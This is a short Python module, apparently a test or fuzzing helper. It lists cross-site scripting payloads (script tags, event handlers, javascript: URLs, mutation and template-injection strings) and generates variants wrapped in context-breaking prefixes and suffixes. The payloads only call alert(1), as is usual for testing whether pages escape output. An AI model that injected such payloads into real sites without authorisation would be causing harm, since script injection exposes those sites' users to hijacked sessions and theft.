"""Texts that run script in a browser, if a page shows them as they are."""

from __future__ import annotations

import random
from collections.abc import Iterator
from itertools import product
from typing import Final

VECTORS: Final = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=data:,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1) autofocus tabindex=1 onfocus=alert(1)>x</a>",
    "<form><button formaction=javascript:alert(1) autofocus onfocus=alert(1)>x</button></form>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>x</b>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<marquee onstart=alert(1)>",
    " onmouseover=alert(1) autofocus onfocus=alert(1) x=",
    "' autofocus onfocus='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    'http://a.example/"onmouseover=alert(1) x="',
    "{{ self.__init__.__globals__ }}<script>alert(1)</script>",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
]
BREAKS: Final = [
    *("", '">', "'>", "\">'>", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>"),
    *(
        "</a>",
        "</code></dd></dl>",
        "<!--",
        '\\">',
        "\u2028",
        "\x00",
        "<",
        "&lt;",
        "&quot;>",
        "%22%3E",
    ),
]
ENDS: Final = ["", "<!--", "//", '"', "'", "\u0000", "é", "\U0001f600", "&", "<"]


def payloads(count: int) -> Iterator[str]:
    """Yield so many, the plainest first."""
    made = ["".join(each) for each in product(BREAKS, VECTORS, ENDS)]
    random.Random(10).shuffle(made)  # noqa: S311  # which of them come first
    plain = VECTORS[: count // 2]
    yield from plain
    yield from made[: count - len(plain)]
